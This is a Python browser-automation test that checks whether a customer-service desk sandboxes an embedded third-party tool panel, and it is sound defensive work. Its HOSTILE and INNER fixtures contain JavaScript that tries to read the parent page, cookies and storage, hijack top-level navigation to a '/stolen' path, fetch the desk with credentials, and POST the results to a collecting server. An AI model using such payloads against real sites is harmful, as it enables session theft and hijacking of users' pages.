"""A tool panel in the browser: it is told about the customer, and a hostile one reaches nothing of the desk."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.eventually import eventually
from tests.journeys.console import at_console, promote
from tests.journeys.people import People, unique
from tests.journeys.stack import Company, Stack

# Tries what it can, says what came of it, and then tries to lead the desk away.
HOSTILE = """<!doctype html><title>panel</title><p id="hello">hello</p><iframe id="inner" src="http://127.0.0.1:%(other)d/"></iframe>
<script>
const tried = {};
const attempt = (name, act) => {
  try { tried[name] = String(act()); } catch (error) { tried[name] = "refused: " + error.name; }
};
attempt("origin", () => origin);
attempt("document", () => parent.document.title);
attempt("top", () => top.document.body.innerHTML);
attempt("location", () => parent.location.href);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("config", () => parent.config);
attempt("referrer", () => document.referrer);
for (const data of [{ t: "message.post" }, "kefu:close", { type: "kefu" }]) parent.postMessage(data, "*");
attempt("popup", () => {
  const opened = open("about:blank");
  return opened && opened.opener ? typeof opened.opener.parent : "none";
});
attempt("leave", () => (top.location = "http://127.0.0.1:%(port)d/stolen"));
fetch("%(site)s/desk/", { credentials: "include" }).then((answer) => answer.text()).then(
  (text) => (tried.fetch = text.slice(0, 40)),
  () => (tried.fetch = "refused"),
).then(() => fetch("/report", { method: "POST", mode: "no-cors", body: JSON.stringify(tried) })).then(() => {
  const link = document.body.appendChild(document.createElement("a"));
  link.href = "/stolen";
  link.target = "_top";
  link.click();
  location = "http://127.0.0.1:%(other)d/elsewhere";
});
</script>"""


INNER = """<!doctype html><script>
fetch("/report", { method: "POST", mode: "no-cors", body: JSON.stringify({ origin }) });
try { top.location = "/stolen"; } catch { }
</script>"""


class Site(ThreadingHTTPServer):
    """A site of somebody else, and what reached it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Page)
        self.asked: list[str] = []
        self.reported: dict[str, str] = {}
        self.page = "<!doctype html><title>x</title>x"

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Browsers hang up."""


class Page(BaseHTTPRequestHandler):
    """Its only page."""

    server: Site

    def do_GET(self) -> None:
        """The page."""
        self.server.asked.append(self.path)
        self._answer(self.server.page.encode())

    def do_POST(self) -> None:
        """The report."""
        self.server.reported = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, content: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: Any) -> None:
        """Quiet."""


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site]]:
    """The panel's site, and another one that is no panel."""
    made = Site(), Site()
    for site in made:
        threading.Thread(target=site.serve_forever, daemon=True).start()
    yield made
    for site in made:
        site.shutdown()
        site.server_close()


def test_a_hostile_panel_learns_about_its_customer_and_reaches_nothing(
    people: People, company: Company, stack: Stack, new_context: Callable[..., BrowserContext], sites: tuple[Site, Site]
) -> None:
    panel, other = sites
    other.page = INNER
    panel.page = HOSTILE % {"port": panel.server_port, "other": other.server_port, "site": stack.url}
    boss = at_console(people, promote(stack, company, "supervisor"), new_context(), "/console/tool-panels/new/")
    boss.locator("#id_name").fill("订单")
    boss.locator("#id_url").fill(f"http://127.0.0.1:{panel.server_port}/orders")
    boss.locator("form.card button.button-primary").click()
    boss.locator("form button.button-primary").click()
    assert len(boss.locator("#secret").input_value()) == 43

    li, carol = people.agent(company), people.visitor(company)
    li.open(carol.say(unique("在吗")))
    where = li.tab.url
    li.page.locator(".tool-panel > summary", has_text="订单").click()
    eventually(lambda: panel.reported)
    tried = panel.reported
    assert tried["origin"] == "null"
    for name in ("document", "top", "location", "cookie", "storage", "config", "leave"):
        assert tried[name].startswith("refused"), (name, tried[name])
    assert tried["referrer"] == ""
    assert tried["fetch"] == "refused"
    assert parse_qs(urlsplit(panel.asked[0]).query)["kefu"][0].count(".") == 2

    expect(li.page.locator("iframe.tool-frame")).to_have_count(1)
    box = li.page.locator("iframe.tool-frame").bounding_box()
    assert box is not None and box["width"] > 250, "as wide as the customer's panel"
    li.tab.wait_for_timeout(500)  # what it tries at last has no sign of its own
    assert li.tab.url == where
    assert not any("stolen" in path for path in panel.asked + other.asked)
    assert other.asked == ["/"], "what the panel embeds is its own affair; its own frame stays where it was"
    assert other.reported == {"origin": "null"}, "and as bound as it is"
    carol.sees(li.say(unique("还在")))
    for window in li.tab.context.pages:
        if window is not li.tab:
            assert window.evaluate("origin") == "null", "a window is as bound as the frame"
    li.tab.reload()
    expect(li.page.locator("details.tool-panel[open]")).to_have_count(1)
